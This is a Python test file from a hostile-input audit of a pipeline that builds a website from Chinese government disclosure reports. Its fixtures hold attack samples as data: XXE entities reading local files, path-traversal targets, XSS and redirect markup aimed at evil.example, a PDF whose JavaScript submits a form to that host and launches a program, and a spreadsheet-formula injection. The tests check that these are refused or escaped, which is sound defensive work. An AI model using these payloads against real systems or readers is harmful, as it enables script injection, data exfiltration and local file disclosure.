"""What the nineteenth hostile-input audit found (session 43, round 11): what the site serves from the reports
themselves, the GitHub workflow (script injection, the token's permissions, pinned actions, the caches a run
restores), XML and zip inside Word files, and the columns added since session 38 in every sink."""

from __future__ import annotations

import re

import pytest
import yaml

from .conftest import ROOT, needs_chromium

WORKFLOW = ROOT / ".github" / "workflows" / "site.yml"
PINNED = re.compile(r"^\s*(?:-\s+)?uses:\s*([\w.-]+/[\w./-]+)@([0-9a-f]{40})\s+#\s*v\d+\.\d+\.\d+\s*$")


def _jobs() -> dict[str, dict]:
    return yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"]


def test_no_run_step_of_the_workflow_expands_an_expression():
    """Script injection: a branch or tag name, a pull request's title or head name, or a repository variable
    expanded by ``${{ … }}`` inside ``run:`` becomes shell code (a branch named ``a$(curl …)``). Every value a step's
    shell reads comes through ``env:``, quoted; no ``run:`` holds ``${{`` at all."""
    runs = [(name, step["run"]) for name, job in _jobs().items() for step in job["steps"] if "run" in step]
    assert len(runs) >= 6
    assert [(name, run) for name, run in runs if "${{" in run] == []


def test_each_job_has_its_own_least_permissions_and_the_workflow_grants_none():
    """The token's rights are each job's own: the workflow's default is none, the build (which runs the tests and
    the pipeline over the reports, a pull request's included) may only read the repository, deploying may write
    Pages (and mint the OIDC token Pages asks for), releasing may write releases — nothing else is granted."""
    workflow = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    assert workflow["permissions"] == {}
    granted = {name: job.get("permissions") for name, job in workflow["jobs"].items()}
    assert granted == {"build": {"contents": "read"}, "deploy": {"pages": "write", "id-token": "write"},
                       "release": {"contents": "write"}}


def test_every_action_is_pinned_to_a_full_commit_named_by_its_version():
    """A tag (``@v5``) is moved by whoever controls the action's repository, so the workflow runs what it is
    pinned to: a full 40-hex commit, its release named in a comment (for the reader and for update tools)."""
    lines = [line for line in WORKFLOW.read_text(encoding="utf-8").splitlines() if re.match(r"\s*(-\s+)?uses:", line)]
    assert len(lines) >= 9
    assert [line for line in lines if not PINNED.match(line)] == []
    used = [step["uses"] for job in _jobs().values() for step in job["steps"] if "uses" in step]
    assert len(used) == len(lines) and all(re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", u) for u in used)


def test_the_checkout_leaves_no_token_in_git_config():
    """``actions/checkout`` writes the job's token into ``.git/config`` unless told not to; the tests and the build
    that follow read hostile reports and run a pull request's code, and need no git credentials."""
    checkouts = [step for job in _jobs().values() for step in job["steps"]
                 if step.get("uses", "").startswith("actions/checkout@")]
    assert checkouts and all(step.get("with", {}).get("persist-credentials") is False for step in checkouts)


def test_only_the_default_branchs_own_runs_save_the_caches_it_restores():
    """The parse, page and full-text caches are trusted build state: an entry whose digest matches is taken
    (README, "Incremental builds"), so whoever writes a cache main restores writes main's site. GitHub scopes a
    pull request's caches to it; the workflow also saves only from the default branch's own runs (a push to main,
    the weekly run, a run by hand on main), restoring everywhere: ``actions/cache`` (which saves at every job's end)
    is not used."""
    steps = _jobs()["build"]["steps"]
    uses = [step.get("uses", "").split("@")[0] for step in steps]
    assert "actions/cache" not in uses
    assert uses.count("actions/cache/restore") == 1 and uses.count("actions/cache/save") == 1
    restore = steps[uses.index("actions/cache/restore")]
    save = steps[uses.index("actions/cache/save")]
    assert uses.index("actions/cache/restore") < uses.index("actions/cache/save")
    assert restore["with"]["path"] == save["with"]["path"] == ".xxgk-cache"
    condition = save["if"]
    assert "github.event_name != 'pull_request'" in condition and "github.ref == 'refs/heads/main'" in condition
    assert "||" not in condition
    assert save["with"]["key"] == "${{ steps." + restore["id"] + ".outputs.cache-primary-key }}"


# ---- XML and zip inside Word files

def _docx_parts(changes: dict) -> bytes:
    """The synthetic report as a .docx, each part named in ``changes`` given by a function of its bytes (``None``
    for a part the file lacks: it is added)."""
    import io
    import zipfile

    from tests.factory import as_docx, tab_report

    original = zipfile.ZipFile(io.BytesIO(as_docx(tab_report(agency="样例县实体局"))))
    parts = {item.filename: original.read(item.filename) for item in original.infolist()}
    for name, change in changes.items():
        parts[name] = change(parts.get(name))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in parts.items():
            made.writestr(name, data)
    return out.getvalue()


def _declared(xml: bytes, root: bytes, declaration: str) -> bytes:
    """``xml`` with a DTD declaring ``declaration`` before its ``root`` element's opening tag."""
    at = xml.index(b"<" + root)
    return xml[:at] + f"<!DOCTYPE {root.decode()} [{declaration}]>".encode() + xml[at:]


ENTITY_REFUSED = "无法读取文件：文档中有 XML 实体引用（Word 不写 DTD，也不打开这样的文件），其后的文字无法读出"


def test_an_external_entity_in_a_style_or_a_relationship_part_is_refused_in_chinese(tmp_path):
    """Word writes no DTD and opens no file holding one. A .docx whose ``styles.xml`` names an external entity
    (``SYSTEM "file:///…"``, a file of this machine) in an attribute, or whose relationship part does, was
    ``file_unreadable`` in libxml2's English (``XMLSyntaxError: Attribute references external entity 'x', line 2,
    column 349535``); one in the document's text was refused in Chinese. Now each is, as that one is; nothing of
    the named file is read (libxml2 never resolves it)."""
    from xxgk.readers import read_bytes

    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-OF-THIS-MACHINE", encoding="utf-8")
    entity = f'<!ENTITY x SYSTEM "{secret.as_uri()}">'
    styles = _docx_parts({"word/styles.xml": lambda xml: _declared(xml, b"w:styles", entity).replace(
        b"</w:styles>", b'<w:style w:styleId="z"><w:name w:val="&x;"/></w:style></w:styles>')})
    relations = _docx_parts({"_rels/.rels": lambda xml: _declared(xml, b"Relationships", entity).replace(
        b"</Relationships>", b'<Relationship Id="rX" Type="&x;" Target="x"/></Relationships>')})
    for data in (styles, relations):
        source = read_bytes(data, ".docx")
        assert [(f.code, f.message) for f in source.findings] == [("file_unreadable", ENTITY_REFUSED)]
        assert source.text == ""


def test_a_relationship_naming_a_part_outside_the_package_is_refused_in_chinese():
    """A .docx whose document's relationship to its styles names ``../../../../etc/passwd``: nothing is read from
    outside the zip (the name is looked up inside it), but the report was ``file_unreadable`` with Python's
    ``KeyError: "There is no item named 'etc/passwd' in the archive"``. Now it says so in Chinese, naming the part."""
    from xxgk.readers import read_bytes

    data = _docx_parts({"word/_rels/document.xml.rels": lambda xml: xml.replace(
        b'Target="styles.xml"', b'Target="../../../../etc/passwd"')})
    source = read_bytes(data, ".docx")
    assert [(f.code, f.message) for f in source.findings] == [
        ("file_unreadable", "无法读取文件：.docx 的部件关系指向压缩包中没有的部件“etc/passwd”，Word 也打不开")]
    assert source.text == ""


def test_nothing_a_word_file_points_at_is_fetched_or_read(tmp_path):
    """A guard (it passes before): a .docx that includes a file of this machine (XInclude ``parse="text"``), imports
    a web page declaring an external entity (``w:altChunk`` of XHTML), imports content, an image and a template from
    outside (external relationships to a listener on this machine, ``file:`` addresses), and carries members named
    ``../../x`` and ``/etc/x``: the report is read from its own parts, nothing of the named file is in its text, and
    the listener is never asked for anything."""
    import socket
    import threading

    from xxgk.readers import read_bytes

    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-OF-THIS-MACHINE", encoding="utf-8")
    listener = socket.create_server(("127.0.0.1", 0))
    asked: list[bytes] = []

    def answer():
        while True:
            connection, _ = listener.accept()
            asked.append(connection.recv(100))
            connection.close()

    threading.Thread(target=answer, daemon=True).start()
    here, there = secret.as_uri(), f"http://127.0.0.1:{listener.getsockname()[1]}/"
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    external = "".join(f'<Relationship Id="{rid}" Type="{relation}{kind}" Target="{target}" TargetMode="External"/>'
                       for rid, kind, target in (("rE1", "aFChunk", here), ("rE2", "aFChunk", there + "chunk"),
                                                 ("rE3", "image", there + "i.png")))
    chunk = (f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "{here}"><!ENTITY y SYSTEM "{there}e">]>'
             '<html xmlns="http://www.w3.org/1999/xhtml"><body><p>&x;&y;</p></body></html>').encode()
    data = _docx_parts({
        "word/document.xml": lambda xml: xml.replace(b"<w:body>", (
            '<w:body><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="' + here + '" parse="text"/>'
            '<w:altChunk r:id="rA"/><w:altChunk r:id="rE1"/><w:altChunk r:id="rE2"/>').encode(), 1),
        "word/_rels/document.xml.rels": lambda xml: xml.replace(b"</Relationships>", (
            f'<Relationship Id="rA" Type="{relation}aFChunk" Target="chunk.xhtml"/>{external}'
            "</Relationships>").encode()),
        "word/chunk.xhtml": lambda _: chunk,
        "[Content_Types].xml": lambda xml: xml.replace(
            b"</Types>", b'<Default Extension="xhtml" ContentType="application/xhtml+xml"/></Types>'),
        "word/_rels/settings.xml.rels": lambda _: (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rT" Type="{relation}attachedTemplate" Target="{there}t.dotm" TargetMode="External"/>'
            "</Relationships>").encode(),
        "../../x.txt": lambda _: b"SECRET-OF-THIS-MACHINE",
        "/etc/x": lambda _: b"y"})
    source = read_bytes(data, ".docx")
    listener.close()
    assert "样例县实体局" in source.text and "SECRET" not in source.text
    assert "file_unreadable" not in {f.code for f in source.findings}
    assert asked == []


# ---- what the site serves from the reports themselves, and the columns added since session 38 in every sink

TITLE_ATTACK = '=HYPERLINK("http://e.x/","点")<img src=x onerror=__pwned=1>'  # (the line is quoted to 60 characters)
PAGE_ATTACKS = {  # markup an HTML report may hold that would run, load or send a reader elsewhere if served as it is
    "script": "<script>window.__pwned=2</script><img src=x onerror=window.__pwned=3><svg onload=window.__pwned=4>",
    "refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "base": '<base href="http://evil.example/"><a href="r/">链接</a>',
    "frames": '<iframe src="http://evil.example/"></iframe><object data="http://evil.example/o"></object>'
              '<embed src="http://evil.example/e"><iframe srcdoc="<script>parent.__pwned=5</script>"></iframe>',
    "form": '<form action="http://evil.example/"><input name="q" value="原文"><button>提交</button></form>',
    "style": '<style>@import url(http://evil.example/x.css);body{background:url(http://evil.example/b.png)}</style>'
             '<link rel="stylesheet" href="http://evil.example/l.css">',
}


def _hostile_reports(reports) -> None:
    """Reports as an attacker may write them: HTML pages holding ``PAGE_ATTACKS``, an SVG named ``.html`` and one
    named ``.txt``, an XHTML page named ``.txt``, a PDF whose opening runs JavaScript and launches a program (and the
    same bytes named ``.html``), and pages explaining a report whose title line is ``TITLE_ATTACK`` (its line is
    quoted in ``report_explainer``'s message and ``actual``) or whose title line starts so."""
    from tests.factory import as_html, tab_report
    from tests.test_h27hostile_audit import pdf_of

    reports.mkdir()
    for k, (name, attack) in enumerate(PAGE_ATTACKS.items()):
        page = as_html(tab_report(agency=f"样例县{'甲乙丙丁戊己'[k]}局", carried_over=k))
        (reports / f"{name}.html").write_text(page.replace("<body>", "<body>" + attack, 1), encoding="utf-8")
    text = tab_report(agency="样例县庚局", carried_over=7).replace("<", "&lt;")
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=6"><script>window.__pwned=7</script>'
           f"<text>{text}</text></svg>")
    (reports / "svg.html").write_text(svg, encoding="utf-8")
    (reports / "svg.txt").write_text(svg.replace("庚局", "辛局"), encoding="utf-8")
    (reports / "xhtml.txt").write_text(
        '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>window.__pwned=8</script>'
        f"<pre>{text.replace('庚局', '壬局')}</pre></body></html>", encoding="utf-8")
    content = b"BT /F1 12 Tf 72 720 Td (<script>window.__pwned=9</script>) Tj ET"
    pdf = pdf_of([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                  b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
                  b"/Resources << /Font << /F1 6 0 R >> >> /AA << /O 7 0 R >> >>",
                  b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
                  b"<< /S /JavaScript /JS (app.alert(1); this.submitForm('http://evil.example/')) >>",
                  b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
                  b"<< /S /Launch /F (calc.exe) >>"])
    (reports / "js.pdf").write_bytes(pdf)
    (reports / "pdf.html").write_bytes(pdf)
    prose = "为了让公众了解本局政府信息公开工作，现解读如下。" * 10
    (reports / "explainer.txt").write_text(f"{TITLE_ATTACK}文字解读：样例县癸局2023年政府信息公开工作年度报告\n"
                                           f"编制背景\n{prose}\n", encoding="utf-8")
    (reports / "titled.html").write_text(as_html(tab_report(agency="样例县子局", carried_over=9).replace(
        "样例县子局2024年", TITLE_ATTACK + "样例县子局2024年", 1)), encoding="utf-8")


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    """The package and the site of ``_hostile_reports``: the work folder."""
    from .conftest import site_of

    work = tmp_path_factory.mktemp("h43-served")
    _hostile_reports(work / "reports")
    site_of(work / "reports", work)
    return work


def test_an_explainers_hostile_title_line_is_escaped_in_every_file_it_reaches(hostile_site):
    """A guard (it passes before): ``report_explainer`` quotes the explainer's title line (session 42) — here
    ``=HYPERLINK(…)<img onerror>``. findings.csv's ``actual`` begins with an apostrophe (no spreadsheet reads it as
    a formula), the workbook holds no formula, and no page, JSON file or sitemap of the site holds the markup
    unescaped; the message is published whole, as text."""
    import csv
    import zipfile

    package, site = hostile_site / "datapackage", hostile_site / "site"
    with open(package / "data" / "findings.csv", encoding="utf-8-sig", newline="") as handle:
        explainer = [row for row in csv.DictReader(handle) if row["code"] == "report_explainer"]
    assert [row["actual"][:12] for row in explainer] == ["'=HYPERLINK("]
    assert TITLE_ATTACK in explainer[0]["message"]
    with zipfile.ZipFile(package / "xxgk.xlsx") as workbook:
        sheets = [workbook.read(name).decode("utf-8") for name in workbook.namelist() if name.endswith(".xml")]
    assert not [sheet for sheet in sheets if re.search(r"<f[\s>]", sheet)]
    assert any("=HYPERLINK(" in sheet for sheet in sheets)
    published = [p for p in site.rglob("*") if p.suffix in (".html", ".json", ".xml")]  # (data files hold it as data)
    assert len(published) > 30
    assert [p.name for p in published if "<img src=x" in p.read_text(encoding="utf-8", errors="replace")] == []
    assert any("onerror=__pwned=1" in p.read_text(encoding="utf-8", errors="replace") for p in published)


def test_the_site_serves_no_report_as_it_was_given(hostile_site):
    """A guard (it passes before): no file of the site is a report's bytes — the source pages (``src/``) and the
    package's ``sources/`` are the text as read, escaped into the site's own page, and ``sources/`` is not
    published on the site — so an HTML, SVG or XHTML report, or a PDF named ``.html``, is never served from the
    site's origin under a type that runs (GitHub Pages types a file by its extension)."""
    import hashlib

    given = {hashlib.sha256(p.read_bytes()).hexdigest() for p in (hostile_site / "reports").iterdir()}
    served = {hashlib.sha256(p.read_bytes()).hexdigest(): p for p in (hostile_site / "site").rglob("*") if p.is_file()}
    assert len(given) == 12 and [str(served[h]) for h in given if h in served] == []  # (13 files, one PDF twice)
    site = hostile_site / "site"
    assert not (site / "sources").exists() and not (site / "downloads" / "sources").exists()


MADE = """return Array.from(document.querySelectorAll('[onerror], [onload], iframe, object, embed, base, '
    + 'meta[http-equiv], form[action], link[rel=stylesheet], script:not([src]):not([type])'))
  .filter(function (e) { return /pwned|evil/.test(e.outerHTML); })
  .map(function (e) { return e.outerHTML.slice(0, 120); })"""


@pytest.mark.browser
@needs_chromium
def test_no_page_of_a_site_built_from_hostile_reports_runs_loads_or_leads_elsewhere(hostile_site, chromium):
    """A guard (nothing ran before either): every page of the site built from ``_hostile_reports`` (report, agency
    and source pages, the quality page quoting the explainer's line, the home and index pages), opened from the
    site's origin in headless Chromium: no flag set, no dialog, no element made from the reports' markup (a script, a
    handler, a frame, a ``<base>``, a refresh, a form, a style sheet), nothing asked of another host, and the
    reader is still on the page opened."""
    from .conftest import own_tab, serving
    from .test_h42hostile import ARM, RAN

    site = hostile_site / "site"
    pages = sorted(p.relative_to(site).as_posix() for p in site.rglob("*.html") if "pagefind" not in p.parts)
    assert len(pages) > 30
    with own_tab(chromium) as driver:
        driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": ARM})
        seen = {}
        with serving(site) as url:
            for page in pages:
                driver.get(f"{url}/{page}")
                ran = driver.execute_script(RAN)
                ran["made"] += driver.execute_script(MADE)
                ran["left"] = driver.execute_script("return location.origin") != url
                seen[page] = ran
    assert {p: r for p, r in seen.items() if r != {"ran": None, "elsewhere": [], "made": [], "left": False}} == {}
